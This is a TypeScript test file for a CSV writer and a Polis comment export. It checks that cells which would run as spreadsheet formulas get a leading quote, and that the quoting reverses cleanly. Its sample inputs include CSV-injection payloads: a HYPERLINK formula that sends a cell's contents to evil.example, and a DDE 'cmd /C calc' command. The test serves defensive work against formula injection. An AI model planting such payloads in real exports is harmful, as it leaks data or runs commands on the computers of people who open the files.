// CSV exports cannot carry a live formula (OWASP "CSV Injection"), and Jirga's own files
// still read back to what was written.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { neutralise, parseCsv, parseCsvLines, unneutralise, writeCsv } from '../../src/kernel/csv.ts';
import { parsePolisComments, writeCommentsCsv } from '../../src/deliberation/polis-export.ts';

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '   =1+1', ' @x', '=1'];

test('cells a spreadsheet would run as formulas are written with a leading quote', () => {
  for (const f of FORMULAS) {
    const csv = writeCsv([[f]]);
    const cell = parseCsv(csv)[0]![0]!;
    assert.equal(cell, `'${f}`, JSON.stringify(f));
  }
  assert.equal(writeCsv([['=HYPERLINK("x")', 'ok']]), `"'=HYPERLINK(""x"")",ok\n`);
});

test('numbers, negative ones included, and ordinary text are left as they are', () => {
  assert.equal(writeCsv([[-1, 0, 1, '-1', '+2', '-0.5', '1e-3', 'Schools must open', 'a=b', 'سلام', '']]), '-1,0,1,-1,+2,-0.5,1e-3,Schools must open,a=b,سلام,\n');
});

test('neutralising is reversible: every text reads back as written with { neutralised: true }', () => {
  const texts = [...FORMULAS, "'=already quoted", "''@twice", "'plain quote", "'", "'-1", '-1', '- a list item', 'x', '', ' leading space'];
  for (const t of texts) {
    assert.equal(unneutralise(neutralise(t)), t, JSON.stringify(t));
    assert.equal(parseCsv(writeCsv([[t, 'x']]), 'CSV', { neutralised: true })[0]![0], t, JSON.stringify(t));
  }
  // without the option, a reader sees the quote (what a spreadsheet shows)
  assert.equal(parseCsv(writeCsv([['=1']]))[0]![0], "'=1");
});

test('a statement "=HYPERLINK(...)" reaches comments.csv neutralised and survives the Polis round trip', () => {
  const text = '=HYPERLINK("http://evil.example","Read me")';
  const comments = writeCommentsCsv([{ id: 0, timestamp: 1_700_000_000_000, authorId: 0, agrees: 1, disagrees: 0, moderated: -1, text }]);
  assert.match(comments, /,"'=HYPERLINK\(/);
  assert.doesNotMatch(comments, /,"=HYPERLINK/);
  assert.match(comments, /,-1,"'=HYPERLINK/); // moderated -1 stays a number
  const back = parsePolisComments(comments);
  assert.equal(back[0]!.text, text);
  assert.equal(back[0]!.moderated, -1);
});

test('parseCsvLines gives each row the line it begins on, past quoted line breaks and blank lines', () => {
  const text = 'a,b\r\n1,"two\nlines"\n\n3,"\n\nthree"\n4,x';
  assert.deepEqual(
    parseCsvLines(text).map((r) => [r.line, r.cells[0]]),
    [
      [1, 'a'],
      [2, '1'],
      [4, ''],
      [5, '3'],
      [8, '4'],
    ],
  );
  assert.deepEqual(parseCsvLines(text).map((r) => r.cells), parseCsv(text));
  assert.equal(parseCsvLines(writeCsv([['=1', 'x']]), 'CSV', { neutralised: true })[0]!.cells[0], '=1');
});
